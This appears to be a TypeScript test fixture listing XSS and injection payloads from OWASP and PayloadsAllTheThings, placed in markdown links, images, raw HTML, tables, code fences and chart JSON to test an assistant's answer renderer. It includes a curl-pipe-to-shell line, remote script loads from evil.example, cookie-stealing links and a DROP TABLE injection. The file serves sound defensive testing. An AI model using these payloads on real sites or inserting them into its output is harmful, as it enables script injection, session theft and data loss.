// XSS and injection payloads for tests/e2e/xss.test.ts, each placed where an assistant answer
// could carry it. Written from the public cheat sheets named above each group:
//   OWASP: "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org, originally RSnake's).
//   PATT:  swisskyrocket/PayloadsAllTheThings, "XSS Injection" (README.md and its "XSS in
//          Markdown" section, plus the polyglot and mXSS pages).
// Payloads that would have a browser call something report it: `alert`, `confirm`, `prompt`
// and `print` are counted by the test, and so is any change of `window.__xss`. Real hosts in
// the originals are replaced by evil.example, so a request for one is unmistakable.

/** Where in an answer a payload sits. */
export type Place = 'text' | 'link' | 'image' | 'html' | 'table' | 'code' | 'chart';

export interface PayloadGroup {
  place: Place;
  /** The cheat sheet the payloads come from. */
  source: string;
  /**
   * Each entry is one payload (for tables: one cell; for charts: one chart block whose title,
   * categories, series names and unit all carry payloads), written as it appears in markdown.
   */
  payloads: string[];
  /** Entries that must show, character for character, in the answer's text (raw HTML as text). */
  shownVerbatim?: boolean;
}

const B64_SCRIPT = 'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K'; // <script>alert('XSS')</script>
const B64_SVG = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4='; // <svg … onload="alert(1)"/>
const HEX_JS =
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29';
const DEC_JS =
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;';
const POLYGLOT =
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e';

export const PAYLOAD_GROUPS: PayloadGroup[] = [
  {
    place: 'text',
    // Payloads inside prose, as a model might echo them back from a resource tag or a question.
    source:
      'OWASP (XSS locator, malformed tags, extraneous brackets); PATT (basic, polyglots, mXSS)',
    payloads: [
      'EC2 cost <script>alert(1)</script> last month.',
      'Total <img src=x onerror=alert(1)> dollars.',
      "The tag was '';!--\"<XSS>=&{()} on that bucket.",
      `Polyglot: ${POLYGLOT}`,
      'Name "><script>alert(document.domain)</script> found.',
      'Closing </p><svg onload=window.__xss++> the paragraph.',
      'Brackets <<SCRIPT>alert("XSS");//<</SCRIPT> here.',
      'Remote <SCRIPT SRC=https://evil.example/xss.js></SCRIPT> script.',
      'Escaped \\<script\\>alert(1)\\</script\\> markup.',
      'Entities &lt;script&gt;alert(1)&lt;/script&gt; and &#60;img src=x onerror=alert(1)&#62;.',
      "Template {{constructor.constructor('window.__xss++')()}} and ${alert(1)} and #{alert(1)}.",
      'Comment <!--<img src="--><img src=x onerror=alert(1)//"> trick.',
      'Malformed <IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\> image.',
      'Nested <scr<script>ipt>alert(1)</scr</script>ipt> tags.',
      'URL-encoded %3Cscript%3Ealert(1)%3C%2Fscript%3E and \\u003cimg src=x onerror=alert(1)\\u003e.',
      'Unknown <x onclick=alert(1)>element</x> and <xss onmouseover=alert(1)>hover</xss>.',
      '**Bold <img src=x onerror=alert(1)> bold** and _<svg/onload=alert(1)>_.',
      'Inline code `<script>alert(1)</script>` stays code.',
      'Bidi \u202e<img src=x onerror=alert(1)>\u202c and zero\u200bwidth <scr\u200bipt>alert(1)</script>.',
      'mXSS <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>.',
    ],
  },
  {
    place: 'link',
    // PATT "XSS in Markdown", with OWASP's encodings of the scheme (tab, newline, entities).
    source: 'PATT "XSS Injection > XSS in Markdown"; OWASP (embedded tab/newline/entity schemes)',
    payloads: [
      '[a](javascript:prompt(document.cookie))',
      '[a](j a v a s c r i p t:prompt(document.cookie))',
      `[a](data:text/html;base64,${B64_SCRIPT})`,
      '[a](javascript:window.onerror=alert;throw%201)',
      "[Basic](javascript:alert('Basic'))",
      '[Local Storage](javascript:alert(JSON.stringify(localStorage)))',
      "[CaseInsensitive](JaVaScRiPt:alert('CaseInsensitive'))",
      "[URL](javascript://www.evil.example%0Aalert('URL'))",
      '[In Quotes](\'javascript:alert("InQuotes")\')',
      `[a](${HEX_JS})`,
      `[a](${DEC_JS})`,
      '[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)',
      '[test](javascript://%0d%0aprompt(1))',
      '[test](javascript://%0d%0aprompt(1);com)',
      '[notmalicious](javascript://%0d%0awindow.onerror=alert;throw%20document.cookie)',
      '[clickme](vbscript:alert(document.domain))',
      '[a](javascript:this;alert(1))',
      '[a](javascript:this;alert&#x28;1&#x29;)',
      '[a](javascript&#58this;alert&#x28;1&#x29;)',
      '[a](Javas&#99;ript:alert(1))',
      '[a](Javas%26%2399;ript:alert(1))',
      '[a](javascript:alert&#65334;(1))',
      '[a](javascript:confirm(1)',
      '[a](javascript:alert(document.domain&#41;)',
      '[a](jav&#x09;ascript:alert(1))',
      '[a](jav&#x0A;ascript:alert(1))',
      '[a](jav&#x0D;ascript:alert(1))',
      '[a](&#x20;javascript:alert(1))',
      '[a](&#x01;javascript:alert(1))',
      '[a](javascript&colon;alert(1))',
      '[a](javascript&#x3A;alert(1))',
      '[a](<javascript:alert(1)>)',
      '[a](<jav\tascript:alert(1)>)',
      '[a](data:text/html,<script>alert(1)</script>)',
      `[a](data:image/svg+xml;base64,${B64_SVG})`,
      '[a](vbscript:msgbox("XSS"))',
      '[a](livescript:alert(1)) and [b](mocha:alert(1))',
      '[a](https://evil.example/ "t\\" onmouseover=\\"alert(1)")',
      '[a](http://evil.example/?q=<script>alert(1)</script>)',
      '[text](http://evil.example " [@danlec](/danlec) ")',
      // Autolinks: CommonMark's <scheme:…> and GFM's bare www./https:// links.
      '<javascript:prompt(document.cookie)>',
      `<${HEX_JS}>`,
      '<vbscript:msgbox(1)> and <JAVASCRIPT:alert(1)>',
      `<data:text/html;base64,${B64_SCRIPT}>`,
      '<http://\\<meta\\ http-equiv=\\"refresh\\"\\ content=\\"0;\\ url=http://evil.example/\\"\\>>',
      '</http://<?><\\h1><script>alert(1)</script>>',
      'www.evil.example/"onmouseover="alert(1) and https://evil.example/<svg/onload=alert(1)>',
      'mailto:x@evil.example?body=<script>alert(1)</script> and <mailto:x@evil.example?body=%3Cscript%3E>',
      // Reference links, their definitions in another block of the same answer.
      '[citelol][r1], [two][r2], [three][r3] and [four]',
      '[r1]: javascript:prompt(document.cookie)\n[r2]: <javascript:alert(1)> "title"\n' +
        `[r3]: data:text/html;base64,${B64_SCRIPT}\n[four]: vbscript:msgbox(1)`,
      '[citelol]: (javascript:prompt(document.cookie))',
      '_http://danlec_@.1 style=background-image:url(data:image/png;base64,iVBORw0KGgo=);display:block; onclick=alert(unescape(/Oh%20No!/.source));return(false);//',
    ],
  },
  {
    place: 'image',
    // PATT "XSS in Markdown" image forms; OWASP's IMG vectors written as markdown images.
    source: 'PATT "XSS Injection > XSS in Markdown"; OWASP (IMG SRC vectors)',
    payloads: [
      '![a](javascript:prompt(document.cookie))',
      `![a](data:text/html;base64,${B64_SCRIPT})`,
      '![a\'"`onerror=prompt(document.cookie)](x)',
      '![x](https://evil.example/x.png)',
      '![pixel](http://evil.example/pixel.gif "tracker")',
      '![x" onerror="alert(1)](https://evil.example/x.png)',
      '![a](https://evil.example/image.png"onload="alert(1))',
      '![a]("onerror="alert(1))',
      `![svg](data:image/svg+xml;base64,${B64_SVG})`,
      '![a](vbscript:msgbox(1))',
      '![a](//evil.example/protocol-relative.png)',
      '![a](/relative/own-origin.png) and ![b](x)',
      '![ref][img1]\n\n[img1]: https://evil.example/ref.png',
      '[![nested](https://evil.example/n.png)](javascript:alert(1))',
      '![<img src=x onerror=alert(1)>](https://evil.example/alt.png)',
      '![a](https://evil.example/x.svg#<script>alert(1)</script>)',
      '![a](jav&#x09;ascript:alert(1))',
    ],
  },
  {
    place: 'html',
    // Raw HTML blocks: must show as text, never become elements.
    source:
      'OWASP XSS Filter Evasion (IMG/BODY/STYLE/META/BASE/TABLE/OBJECT/EMBED); PATT (svg, details, math, iframe, mXSS)',
    shownVerbatim: true,
    payloads: [
      '<script>alert(1)</script>',
      '<script src=https://evil.example/x.js></script>',
      '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
      '<img src=x onerror=alert(1)>',
      '<IMG SRC="javascript:alert(\'XSS\');">',
      "<IMG SRC=JaVaScRiPt:alert('XSS')>",
      '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
      `<IMG SRC=${DEC_JS}>`,
      '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
      '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
      '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
      '<svg onload=alert(1)>',
      '<svg/onload=window.__xss++>',
      '<iframe srcdoc="<script>parent.__xss++</script>"></iframe>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<a href="javascript:alert(1)">click</a>',
      '<a href="jav&#x09;ascript:alert(1)">click</a>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<math href="javascript:alert(1)">CLICKME</math>',
      '<details open ontoggle=alert(1)>',
      '<body onload=alert(1)>',
      '<div style="background-image: url(javascript:alert(\'XSS\'))">',
      '<div style="width: expression(alert(\'XSS\'));">',
      "<style>@import 'https://evil.example/x.css';</style>",
      '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
      `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${B64_SCRIPT}">`,
      '<BASE HREF="javascript:alert(\'XSS\');//">',
      '<base href="https://evil.example/">',
      '<object data="javascript:alert(1)"></object>',
      `<embed src="data:image/svg+xml;base64,${B64_SVG}" type="image/svg+xml">`,
      '<form><button formaction="javascript:alert(1)">X</button></form>',
      '<input onfocus=alert(1) autofocus>',
      '<select autofocus onfocus=alert(1)>',
      '<textarea autofocus onfocus=alert(1)>',
      '<video><source onerror="alert(1)">',
      '<audio src=x onerror=alert(1)>',
      '<marquee onstart=alert(1)>',
      '<object type="text/x-scriptlet" data="http://evil.example/scriptlet.html"></object>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
      '<link rel=stylesheet href="https://evil.example/x.css">',
      '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
      '<isindex action=javascript:alert(1) type=image>',
      '<x contenteditable onblur=alert(1)>lose focus!',
      '<div onpointerover="alert(1)">MOVE HERE</div>',
      '<!-- <img src=x onerror=alert(1)> -->',
      '<![CDATA[<script>alert(1)</script>]]>',
      '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
    ],
  },
  {
    place: 'table',
    // The same vectors inside GFM table cells (and a header cell).
    source: 'OWASP (IMG/SVG/A vectors); PATT "XSS in Markdown" (links) — placed in GFM cells',
    payloads: [
      '<img src=x onerror=alert(1)>',
      '<script>alert(1)</script>',
      '[x](javascript:alert(1))',
      '![x](https://evil.example/cell.png)',
      '<svg onload=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
      `[x](data:text/html;base64,${B64_SCRIPT})`,
      '<javascript:alert(1)>',
      '`<img src=x onerror=alert(1)>`',
      '<details open ontoggle=alert(1)>',
      '<iframe srcdoc="&lt;script&gt;parent.__xss++&lt;/script&gt;">',
      '[x](vbscript:msgbox(1))',
      '[x](jav&#x09;ascript:alert(1))',
      '**<img src=x onerror=alert(1)>**',
    ],
  },
  {
    place: 'code',
    // Hostile info strings (the language) and hostile code, fenced and nested in a list.
    source: 'PATT (attribute breakout "><img …>, script in JSON); OWASP (XSS locator) — as fences',
    payloads: [
      '```"><img src=x onerror=alert(1)>\nEC2 1234.50\n```',
      '```"><svg/onload=window.__xss++>\nS3 321.00\n```',
      '```javascript:alert(1)\nRDS 876.25\n```',
      '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
      '```json\n{"name":"</script><script>alert(1)</script>","href":"javascript:alert(1)"}\n```',
      '```bash\n$(curl -s https://evil.example/x.sh | sh) `alert(1)`\n```',
      '```__proto__\nprototype key as a language\n```',
      '```constructor\nanother inherited key\n```',
      '```toString\nand another\n```',
      '~~~<script>alert(1)</script>\ntilde fence, backticks ` allowed in its info\n~~~',
      '- in a list:\n\n  ```"><img src=x onerror=alert(1)>\n  <script>alert(1)</script>\n  ```',
      '```chart\n{"type":"<script>alert(1)</script>","categories":["<img src=x onerror=alert(1)>"],"series":[]}\n```',
      "```sql\nSELECT * FROM costs WHERE id = '1' OR '1'='1'; DROP TABLE costs;--\n```",
      "```yaml\nkey: !!js/function 'function(){alert(1)}'\n```",
    ],
  },
  {
    place: 'chart',
    // Chart JSON whose text fields carry payloads; it renders as SVG (title, axis, legend).
    source: 'OWASP (IMG/SCRIPT/SVG vectors); PATT (SVG-context breakouts, template injection)',
    payloads: [
      chart({
        type: 'bar',
        title: '<img src=x onerror=alert(1)>',
        unit: '</text><script>alert(1)</script>',
        categories: ['<script>alert(1)</script>', 'javascript:alert(1)', '<svg onload=alert(1)>'],
        series: [
          { name: '"><img src=x onerror=alert(1)>', data: [1, 2, 3] },
          { name: "{{constructor.constructor('alert(1)')()}}", data: [3, 2, 1] },
        ],
      }),
      chart({
        type: 'line',
        title: 'javascript:alert(1)',
        unit: "<style>*{background:url('https://evil.example/bg.png')}</style>",
        categories: [
          `data:text/html;base64,${B64_SCRIPT}`,
          '<a href=javascript:alert(1)>x</a>',
          '</tspan><tspan onclick=alert(1)>',
        ],
        series: [
          { name: '<iframe srcdoc="<script>parent.__xss++</script>">', data: [5, 6, 7] },
          { name: 'vbscript:msgbox(1)', data: [7, 6, 5] },
        ],
      }),
      chart({
        type: 'pie',
        title: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
        unit: 'XSS',
        categories: ['__proto__', 'constructor', '<img src=x onerror=alert(1)>'],
        series: [{ name: 'toString', data: [1, 2, 3] }],
      }),
      chart({
        type: 'bar',
        title: 'url(https://evil.example/x.svg#f)',
        unit: 'url(#x)',
        categories: ['url(https://evil.example/a.png)', 'url(javascript:alert(1))'],
        series: [
          { name: '<details open ontoggle=alert(1)>', data: [10, 20] },
          { name: '__proto__', data: [20, 10] },
        ],
      }),
      chart({
        type: 'line',
        title: '\u202e<script>alert(1)</script>',
        unit: '"><svg/onload=window.__xss++>',
        categories: ['<math href="javascript:alert(1)">x</math>', '&lt;script&gt;', '${alert(1)}'],
        series: [{ name: '<base href="https://evil.example/">', data: [1, 1, 1] }],
      }),
      chart({
        type: 'pie',
        title: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1)">',
        categories: [
          '<body onload=alert(1)>',
          '<link rel=stylesheet href=https://evil.example/x.css>',
        ],
        series: [{ name: '<script src=https://evil.example/x.js></script>', data: [3, 4] }],
      }),
      chart({
        type: 'bar',
        title: '<object data="javascript:alert(1)">',
        unit: 'USD',
        categories: [
          '<embed src=javascript:alert(1)>',
          '<form><button formaction=javascript:alert(1)>X',
        ],
        series: [
          { name: '<input onfocus=alert(1) autofocus>', data: [100, 200] },
          { name: '<x contenteditable onblur=alert(1)>', data: [200, 100] },
        ],
      }),
      chart({
        type: 'line',
        title: POLYGLOT,
        categories: [
          '<IMG SRC="jav&#x09;ascript:alert(1);">',
          '<!--<img src="--><img src=x onerror=alert(1)//">',
        ],
        series: [{ name: "'';!--\"<XSS>=&{()}", data: [0, 1] }],
      }),
    ],
  },
];

function chart(spec: Record<string, unknown>): string {
  return `\`\`\`chart\n${JSON.stringify(spec)}\n\`\`\``;
}

/** The title of a payload chart, as its figure is named (the accessible name). */
export function chartTitle(payload: string): string | undefined {
  const json = payload.split('\n')[1];
  return json ? (JSON.parse(json) as { title?: string }).title : undefined;
}

/** One table of all the table payloads: two per row, the first as a header cell too. */
export function tableMarkdown(cells: string[]): string {
  const rows: string[] = [`| ${cells[0]} | Cost |`, '|:---|---:|'];
  for (let i = 1; i < cells.length; i += 2) {
    rows.push(`| ${cells[i]} | ${cells[i + 1] ?? '$1.00'} |`);
  }
  return rows.join('\n');
}
